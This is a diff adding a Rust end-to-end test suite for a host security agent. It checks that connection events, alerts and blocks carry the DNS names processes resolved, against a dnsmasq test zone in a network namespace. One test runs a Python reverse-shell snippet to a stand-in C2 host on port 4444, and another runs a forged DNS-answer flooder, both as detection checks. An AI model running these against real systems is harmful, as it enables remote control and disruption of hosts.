@@ -1,0 +1,640 @@
+//! End-to-end: connections carry the name they were resolved from. A real resolver (Debian's
+//! `dnsmasq`, started by the test inside the test network namespace) serves a test zone; real
+//! processes resolve names through glibc (`getaddrinfo`, with a `resolv.conf` and
+//! `nsswitch.conf` of the test's own bind-mounted in a private mount namespace: the machine's
+//! files are never touched) and connect. The agent's connect events and geo alerts must carry
+//! the name, also when the answer comes from a local caching stub on loopback (as
+//! systemd-resolved's 127.0.0.53), and per process: two processes that resolved different
+//! names to one address each see their own.
+
+mod common;
+
+use std::{
+    io::{BufRead, BufReader, Write as _},
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+    thread,
+    time::{Duration, Instant},
+};
+
+use common::{
+    Agent,
+    netns::{CN4, DE4, FR6, KP6, RU4, TestNet},
+    nft::Table,
+    procs::Procs,
+};
+use serde_json::Value;
+
+/// The zone the resolver serves: names → the high-risk test hosts.
+const ZONE: [(&str, &str); 5] = [
+    ("c2.sentinel.test", RU4),
+    ("xmr.pool.sentinel.test", DE4),
+    ("alias.sentinel.test", RU4),
+    ("v6.sentinel.test", KP6),
+    ("other.sentinel.test", RU4),
+];
+
+/// Start `dnsmasq` in the test namespace, answering on `listen` from `ZONE` (or forwarding to
+/// `upstream`), and wait until it answers.
+fn dnsmasq(net: &TestNet, listen: &str, upstream: Option<&str>, procs: &mut Procs) {
+    dnsmasq_serving(net, listen, upstream, &ZONE, procs);
+}
+
+/// [`dnsmasq`] serving `zone` (names → addresses) instead of `ZONE`.
+fn dnsmasq_serving(
+    net: &TestNet,
+    listen: &str,
+    upstream: Option<&str>,
+    zone: &[(&str, &str)],
+    procs: &mut Procs,
+) {
+    let mut cmd = Command::new("ip");
+    cmd.args(["netns", "exec", net.ns(), "dnsmasq", "--keep-in-foreground"])
+        .args(["--conf-file=/dev/null", "--no-resolv", "--no-hosts"])
+        .args(["--bind-interfaces", "--port=53", "--pid-file="])
+        .args(["--user=root", "--group=root", "--cache-size=0"])
+        .arg(format!("--listen-address={listen}"))
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    match upstream {
+        Some(up) => {
+            cmd.arg(format!("--server={up}"));
+        }
+        None => {
+            for (name, addr) in zone {
+                cmd.arg(format!("--host-record={name},{addr}"));
+            }
+            cmd.arg("--cname=www.sentinel.test,c2.sentinel.test");
+        }
+    }
+    procs.spawn(&mut cmd);
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let out = Command::new("ip")
+            .args([
+                "netns",
+                "exec",
+                net.ns(),
+                "ss",
+                "-Hlun",
+                "sport",
+                "=",
+                ":53",
+            ])
+            .output()
+            .unwrap();
+        if String::from_utf8_lossy(&out.stdout).contains(listen) {
+            return;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "dnsmasq on {listen} did not start"
+        );
+        thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// `resolv.conf` and `nsswitch.conf` (DNS only) for clients of `nameserver`, in `dir`.
+fn resolver_files(dir: &Path, tag: &str, nameserver: &str) -> (PathBuf, PathBuf) {
+    resolver_files_with(dir, tag, nameserver, "")
+}
+
+/// [`resolver_files`] with more resolver `options` (`use-vc`: queries over TCP).
+fn resolver_files_with(
+    dir: &Path,
+    tag: &str,
+    nameserver: &str,
+    options: &str,
+) -> (PathBuf, PathBuf) {
+    let resolv = dir.join(format!("resolv-{tag}.conf"));
+    std::fs::write(
+        &resolv,
+        format!("nameserver {nameserver}\noptions timeout:2 attempts:2 {options}\n"),
+    )
+    .unwrap();
+    let nss = dir.join("nsswitch.conf");
+    std::fs::write(&nss, "hosts: files dns\n").unwrap();
+    (resolv, nss)
+}
+
+/// What a client does once told: connect to every address it got (port 443: the test host
+/// resets), then say `connected`.
+const CONNECT_ALL: &str = "for fam, typ, proto, _, addr in infos:\n\
+    \x20   s = socket.socket(fam, typ, proto); s.settimeout(2)\n\
+    \x20   try: s.connect(addr)\n\
+    \x20   except OSError: pass\n\
+    \x20   s.close()\n\
+    print('connected', flush=True)\n";
+
+/// A python client that resolves `name` through glibc, says `resolved`, waits for a line on
+/// stdin, then runs `then` (python, with `infos` from `getaddrinfo`; [`CONNECT_ALL`]). Runs in a
+/// private mount namespace with the given resolver files; `in_ns` runs it inside the test
+/// namespace. The child's pid is the client's (every step execs).
+fn client(
+    net: &TestNet,
+    in_ns: bool,
+    files: &(PathBuf, PathBuf),
+    name: &str,
+    then: &str,
+    procs: &mut Procs,
+) -> (
+    u32,
+    std::process::ChildStdin,
+    BufReader<std::process::ChildStdout>,
+) {
+    let script = format!(
+        "import os, socket, sys, time\n\
+         infos = socket.getaddrinfo('{name}', 443, type=socket.SOCK_STREAM)\n\
+         print('resolved', ' '.join(sorted({{i[4][0] for i in infos}})), flush=True)\n\
+         sys.stdin.readline()\n{then}"
+    );
+    let mut cmd = Command::new("ip");
+    if in_ns {
+        cmd.args(["netns", "exec", net.ns(), "unshare", "-m"]);
+    } else {
+        cmd = Command::new("unshare");
+        cmd.arg("-m");
+    }
+    cmd.args([
+        "sh",
+        "-c",
+        "mount --bind \"$0\" /etc/resolv.conf && mount --bind \"$1\" /etc/nsswitch.conf \
+         && exec /usr/bin/python3 -c \"$2\"",
+    ])
+    .arg(&files.0)
+    .arg(&files.1)
+    .arg(script)
+    .stdin(Stdio::piped())
+    .stdout(Stdio::piped());
+    let child = procs.spawn(&mut cmd);
+    let pid = child.id();
+    let stdin = child.stdin.take().unwrap();
+    let mut stdout = BufReader::new(child.stdout.take().unwrap());
+    let mut line = String::new();
+    stdout.read_line(&mut line).unwrap();
+    assert!(
+        line.starts_with("resolved ") && line.trim().len() > "resolved".len(),
+        "{name} did not resolve: {line:?}"
+    );
+    (pid, stdin, stdout)
+}
+
+/// Let a client connect and wait until it did.
+fn connect_now(
+    stdin: &mut std::process::ChildStdin,
+    stdout: &mut BufReader<std::process::ChildStdout>,
+) {
+    stdin.write_all(b"go\n").unwrap();
+    let mut line = String::new();
+    stdout.read_line(&mut line).unwrap();
+    assert_eq!(line.trim(), "connected");
+}
+
+fn connect_of(agent: &Agent, pid: u32, daddr: &str) -> Value {
+    agent.wait_for("connect", &format!("from pid {pid} to {daddr}"), |e| {
+        e["pid"] == pid && e["daddr"] == daddr
+    })
+}
+
+fn geo_alert_of(agent: &Agent, pid: u32) -> Value {
+    agent.wait_for("alert", &format!("geo for pid {pid}"), |a| {
+        a["anomaly"] == "geo" && a["pid"] == pid
+    })
+}
+
+fn require_dnsmasq(test: &str) -> bool {
+    if Command::new("dnsmasq").arg("--version").output().is_ok() {
+        return true;
+    }
+    panic!("{test}: dnsmasq is missing (scripts/setup.sh installs dnsmasq-base)");
+}
+
+#[test]
+fn a_resolved_name_reaches_the_connect_event_and_the_geo_alert() {
+    if !common::require_root("a_resolved_name_reaches_the_connect_event_and_the_geo_alert") {
+        return;
+    }
+    require_dnsmasq("a_resolved_name_reaches_the_connect_event_and_the_geo_alert");
+    let _serial = common::serial();
+    let net = TestNet::new("dns");
+    let mut procs = Procs::default();
+    dnsmasq(&net, DE4, None, &mut procs);
+    dnsmasq(&net, FR6, None, &mut procs);
+    let agent = Agent::start("");
+    let dir = tempfile::tempdir().unwrap();
+    let files = resolver_files(dir.path(), "direct", DE4);
+
+    // Through a CNAME: the name asked is the one shown.
+    let (pid, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &files,
+        "www.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut stdin, &mut stdout);
+    let ev = connect_of(&agent, pid, RU4);
+    assert_eq!(ev["domain"], "www.sentinel.test", "{ev}");
+    let alert = geo_alert_of(&agent, pid);
+    let detail = alert["detail"].as_str().unwrap();
+    assert!(
+        detail.contains(&format!("www.sentinel.test ({RU4})")),
+        "{detail}"
+    );
+    assert_eq!(alert["domain"], "www.sentinel.test", "{alert}");
+    // Its pending decision carries the name too (the event and `sentinel pending`).
+    let id = alert["id"].as_str().unwrap().to_string();
+    let decision = agent.wait_for("decision", &format!("pending {id}"), |d| {
+        d["id"] == id.as_str() && d["state"] == "pending"
+    });
+    assert_eq!(decision["domain"], "www.sentinel.test", "{decision}");
+    let pending = agent.json_lines(&["pending", "--json"]);
+    assert!(
+        pending
+            .iter()
+            .any(|p| p["id"] == id.as_str() && p["domain"] == "www.sentinel.test"),
+        "{pending:?}"
+    );
+
+    // An AAAA answer names an IPv6 connect.
+    let (pid6, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &files,
+        "v6.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut stdin, &mut stdout);
+    let ev = connect_of(&agent, pid6, KP6);
+    assert_eq!(ev["domain"], "v6.sentinel.test", "{ev}");
+
+    // Over TCP (`options use-vc`), as a resolver falls back to for a long answer.
+    let tcp = resolver_files_with(dir.path(), "tcp", DE4, "use-vc");
+    let (pid_tcp, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &tcp,
+        "other.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut stdin, &mut stdout);
+    let ev = connect_of(&agent, pid_tcp, RU4);
+    assert_eq!(ev["domain"], "other.sentinel.test", "{ev}");
+
+    // An answer that comes over IPv6.
+    let v6 = resolver_files(dir.path(), "v6", FR6);
+    let (pid_v6, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &v6,
+        "alias.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut stdin, &mut stdout);
+    let ev = connect_of(&agent, pid_v6, RU4);
+    assert_eq!(ev["domain"], "alias.sentinel.test", "{ev}");
+
+    // A connect to an address nobody resolved has no name.
+    common::netns::knock(FR6, 443);
+    let own = std::process::id();
+    let ev = connect_of(&agent, own, FR6);
+    assert!(ev["domain"].is_null(), "{ev}");
+}
+
+#[test]
+fn a_local_stub_still_names_the_right_process() {
+    if !common::require_root("a_local_stub_still_names_the_right_process") {
+        return;
+    }
+    require_dnsmasq("a_local_stub_still_names_the_right_process");
+    let _serial = common::serial();
+    let net = TestNet::new("dnsstub");
+    let mut procs = Procs::default();
+    dnsmasq(&net, DE4, None, &mut procs);
+    // The stub, as systemd-resolved's: on loopback in the clients' view, forwarding upstream.
+    dnsmasq(&net, "127.0.0.53", Some(DE4), &mut procs);
+    let agent = Agent::start("");
+    let dir = tempfile::tempdir().unwrap();
+    let stub = resolver_files(dir.path(), "stub", "127.0.0.53");
+
+    // Two processes resolve two names to one address, one after the other; each connect
+    // carries the name its own process asked for, not the host's latest.
+    let (first, mut first_in, mut first_out) = client(
+        &net,
+        true,
+        &stub,
+        "c2.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    let (second, mut second_in, mut second_out) = client(
+        &net,
+        true,
+        &stub,
+        "other.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut first_in, &mut first_out);
+    connect_now(&mut second_in, &mut second_out);
+    let ev = connect_of(&agent, first, RU4);
+    assert_eq!(ev["domain"], "c2.sentinel.test", "{ev}");
+    let ev = connect_of(&agent, second, RU4);
+    assert_eq!(ev["domain"], "other.sentinel.test", "{ev}");
+    let alert = geo_alert_of(&agent, first);
+    assert!(
+        alert["detail"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("c2.sentinel.test ({RU4})")),
+        "{alert}"
+    );
+    let status = agent.status();
+    assert_eq!(status["sensors"]["dns"]["attached"], true, "{status}");
+}
+
+#[test]
+fn a_reverse_shell_alert_names_its_peer() {
+    if !common::require_root("a_reverse_shell_alert_names_its_peer") {
+        return;
+    }
+    require_dnsmasq("a_reverse_shell_alert_names_its_peer");
+    let _serial = common::serial();
+    let net = TestNet::new("dnsrs");
+    let mut procs = Procs::default();
+    dnsmasq(&net, DE4, None, &mut procs);
+    common::procs::hold_connections(&net, 4444, &mut procs);
+    let agent = Agent::start("");
+    let dir = tempfile::tempdir().unwrap();
+    let files = resolver_files(dir.path(), "direct", DE4);
+    // The classic python one-liner, to a C2 found by name.
+    let shell = "s = socket.create_connection((infos[0][4][0], 4444), timeout=5)\n\
+                 os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n\
+                 time.sleep(5)\n";
+    let (pid, mut stdin, _stdout) =
+        client(&net, false, &files, "c2.sentinel.test", shell, &mut procs);
+    stdin.write_all(b"go\n").unwrap();
+    let alert = agent.wait_for("alert", &format!("reverse_shell for pid {pid}"), |a| {
+        a["anomaly"] == "reverse_shell" && a["pid"] == pid
+    });
+    let detail = alert["detail"].as_str().unwrap();
+    assert!(
+        detail.contains(&format!("c2.sentinel.test ({RU4}) port 4444")),
+        "{detail}"
+    );
+}
+
+#[test]
+fn a_blocked_name_takes_its_new_address_into_the_block() {
+    if !common::require_root("a_blocked_name_takes_its_new_address_into_the_block") {
+        return;
+    }
+    require_dnsmasq("a_blocked_name_takes_its_new_address_into_the_block");
+    let _serial = common::serial();
+    const ROTATED: &str = "198.51.100.3";
+    const NAME: &str = "rotate.sentinel.test";
+    let net = TestNet::try_new("dnsblk", &[&format!("{ROTATED}/32")]).unwrap();
+    let mut procs = Procs::default();
+    // The C2's name before and after it moves: two resolvers, one answer each.
+    dnsmasq_serving(&net, DE4, None, &[(NAME, RU4)], &mut procs);
+    dnsmasq_serving(&net, CN4, None, &[(NAME, ROTATED)], &mut procs);
+    let table = Table::new("dnsblk");
+    let agent = Agent::start_with(
+        "",
+        &format!(
+            "[switch]\ncountdown = \"1s\"\n[enforce]\ntable = \"{}\"\n\
+             connect_guard = false\nblock_ttl = \"120s\"\n",
+            table.0
+        ),
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let before = resolver_files(dir.path(), "before", DE4);
+    let after = resolver_files(dir.path(), "after", CN4);
+
+    let (pid, mut stdin, mut stdout) = client(&net, false, &before, NAME, CONNECT_ALL, &mut procs);
+    connect_now(&mut stdin, &mut stdout);
+    let decision = agent.wait_for("decision", &format!("auto-block of pid {pid}"), |d| {
+        d["pid"] == pid && d["state"] == "auto-blocked" && d["target_ip"] == RU4
+    });
+    let id = decision["id"].as_str().unwrap().to_string();
+    assert_eq!(decision["domain"], NAME, "{decision}");
+    assert!(
+        !table.elements("block4").iter().any(|e| e.0 == ROTATED),
+        "the new address is blocked before anyone resolved it"
+    );
+
+    // The same origin (this test's tree) resolves the name again and gets the new address:
+    // it joins the block, without any connection to it.
+    let (_pid, _stdin, _stdout) = client(&net, false, &after, NAME, CONNECT_ALL, &mut procs);
+    let deadline = Instant::now() + Duration::from_secs(15);
+    while !table.elements("block4").iter().any(|e| e.0 == ROTATED) {
+        assert!(
+            Instant::now() < deadline,
+            "{ROTATED} never joined the block: {:?}\nagent log:\n{}",
+            table.elements("block4"),
+            agent.log()
+        );
+        thread::sleep(Duration::from_millis(100));
+    }
+    let blocks = agent.json_lines(&["blocks", "--json"]);
+    assert!(
+        blocks
+            .iter()
+            .any(|b| b["addr"] == ROTATED && b["decision_id"] == id.as_str()),
+        "{blocks:?}"
+    );
+}
+
+#[test]
+fn a_connection_to_a_pool_by_name_is_a_miner_alert() {
+    if !common::require_root("a_connection_to_a_pool_by_name_is_a_miner_alert") {
+        return;
+    }
+    require_dnsmasq("a_connection_to_a_pool_by_name_is_a_miner_alert");
+    let _serial = common::serial();
+    let net = TestNet::new("dnspool");
+    let mut procs = Procs::default();
+    dnsmasq(&net, DE4, None, &mut procs);
+    let agent = Agent::start_with("", "[miner]\npool_domains = [\"*.pool.sentinel.test\"]\n");
+    let dir = tempfile::tempdir().unwrap();
+    let files = resolver_files(dir.path(), "direct", DE4);
+    // An ordinary program on an ordinary port (443), in a low-risk country: only the name
+    // says it is mining.
+    let (pid, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &files,
+        "xmr.pool.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut stdin, &mut stdout);
+    let alert = agent.wait_for("alert", &format!("miner for pid {pid}"), |a| {
+        a["anomaly"] == "miner" && a["pid"] == pid
+    });
+    let detail = alert["detail"].as_str().unwrap();
+    assert!(
+        detail.contains(
+            "connects to mining pool xmr.pool.sentinel.test (pool.sentinel.test) port 443"
+        ),
+        "{detail}"
+    );
+    assert_eq!(alert["target_ip"], DE4, "{alert}");
+    // A name outside the pools is no miner.
+    let (other, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &files,
+        "www.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut stdin, &mut stdout);
+    connect_of(&agent, other, RU4);
+    thread::sleep(Duration::from_millis(500));
+    assert!(
+        !agent
+            .events("alert")
+            .iter()
+            .any(|a| a["anomaly"] == "miner" && a["pid"] == other),
+        "a miner alert for a name outside the pools"
+    );
+}
+
+/// The agent's resident memory, in KiB.
+fn rss_kib(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix("VmRSS:"))
+        .and_then(|v| v.split_whitespace().next())
+        .and_then(|v| v.parse().ok())
+        .unwrap()
+}
+
+#[test]
+fn a_flood_of_answers_neither_grows_memory_nor_stalls_the_agent() {
+    if !common::require_root("a_flood_of_answers_neither_grows_memory_nor_stalls_the_agent") {
+        return;
+    }
+    require_dnsmasq("a_flood_of_answers_neither_grows_memory_nor_stalls_the_agent");
+    let _serial = common::serial();
+    const FLOOD: u32 = 100_000;
+    let net = TestNet::new("dnsfl");
+    let mut procs = Procs::default();
+    dnsmasq(&net, CN4, None, &mut procs);
+    let agent = Agent::start("");
+    thread::sleep(Duration::from_secs(1));
+    let before = agent.status();
+    let rss_before = rss_kib(agent.pid());
+    // A hostile "resolver": one query brings back a flood of answers, each naming another
+    // address of the test network 2001:db8:1::/64 with another (long, hostile) name, to a
+    // socket that asked port 53.
+    let flooder = format!(
+        "import socket, struct\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+         s.bind(('{DE4}', 53)); print('ready', flush=True)\n\
+         q, peer = s.recvfrom(512)\n\
+         for i in range({FLOOD}):\n\
+         \x20   label = ('x%06d-' % i).encode() + b'\\x1b[31m' * 8\n\
+         \x20   name = bytes([len(label)]) + label + b'\\x05flood\\x04test\\x00'\n\
+         \x20   hdr = struct.pack('>HHHHHH', i & 0xffff, 0x8180, 1, 1, 0, 0)\n\
+         \x20   addr = b'\\x20\\x01\\x0d\\xb8\\x00\\x01' + bytes(7) + bytes([(i >> 16) & 255, (i >> 8) & 255, i & 255])\n\
+         \x20   rr = b'\\xc0\\x0c' + struct.pack('>HHIH', 28, 1, 3600, 16) + addr\n\
+         \x20   s.sendto(hdr + name + b'\\x00\\x01\\x00\\x01' + rr, peer)\n\
+         q, peer = s.recvfrom(512)\n\
+         last = b'\\x04last\\x05flood\\x04test\\x00'\n\
+         rr = b'\\xc0\\x0c' + struct.pack('>HHIH', 28, 1, 3600, 16) + b'\\x20\\x01\\x0d\\xb8\\x00\\x01' + bytes(8) + b'\\xff\\xff'\n\
+         s.sendto(struct.pack('>HHHHHH', 2, 0x8180, 1, 1, 0, 0) + last + b'\\x00\\x1c\\x00\\x01' + rr, peer)\n"
+    );
+    let child = procs.spawn(
+        Command::new("ip")
+            .args([
+                "netns",
+                "exec",
+                net.ns(),
+                "/usr/bin/python3",
+                "-c",
+                &flooder,
+            ])
+            .stdout(Stdio::piped()),
+    );
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    assert_eq!(line.trim(), "ready");
+    let victim = format!(
+        "import socket, time\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{DE4}', 53))\n\
+         s.send(b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05flood\\x04test\\x00\\x00\\x01\\x00\\x01')\n\
+         input()\n\
+         s.send(b'\\x00\\x02\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04last\\x05flood\\x04test\\x00\\x00\\x1c\\x00\\x01')\n\
+         time.sleep(20)\n"
+    );
+    let mut victim_in = procs
+        .spawn(
+            Command::new("/usr/bin/python3")
+                .args(["-c", &victim])
+                .stdin(Stdio::piped()),
+        )
+        .stdin
+        .take()
+        .unwrap();
+    // The flood arrives; the agent keeps count of what it saw and lost.
+    let seen = |s: &Value| {
+        s["sensors"]["dns"]["seen"].as_u64().unwrap_or(0)
+            + s["sensors"]["dns"]["lost"].as_u64().unwrap_or(0)
+    };
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while seen(&agent.status()) < seen(&before) + u64::from(FLOOD) * 9 / 10 {
+        assert!(
+            Instant::now() < deadline,
+            "the flood never reached the agent: {}",
+            agent.status()
+        );
+        thread::sleep(Duration::from_millis(500));
+    }
+    // Bounded memory: the name cache's caps, not the flood's size.
+    let grown = rss_kib(agent.pid()).saturating_sub(rss_before);
+    assert!(grown < 64 * 1024, "the agent grew by {grown} KiB");
+    // Right after the flood, an answer is still taken in: a connect to its address carries
+    // its name (the host's, since this process never asked).
+    victim_in.write_all(b"again\n").unwrap();
+    let marker = "2001:db8:1::ffff";
+    let deadline = Instant::now() + Duration::from_secs(15);
+    loop {
+        common::netns::knock(marker, 443);
+        let named = agent
+            .events("connect")
+            .iter()
+            .any(|e| e["daddr"] == marker && e["domain"] == "last.flood.test");
+        if named {
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "the answer after the flood was not taken in: {}",
+            agent.status()
+        );
+        thread::sleep(Duration::from_millis(500));
+    }
+    // Not stalled: a real resolution right after is named.
+    let dir = tempfile::tempdir().unwrap();
+    let files = resolver_files(dir.path(), "after", CN4);
+    let (pid, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &files,
+        "c2.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    connect_now(&mut stdin, &mut stdout);
+    let ev = connect_of(&agent, pid, RU4);
+    assert_eq!(ev["domain"], "c2.sentinel.test", "{ev}");
+}
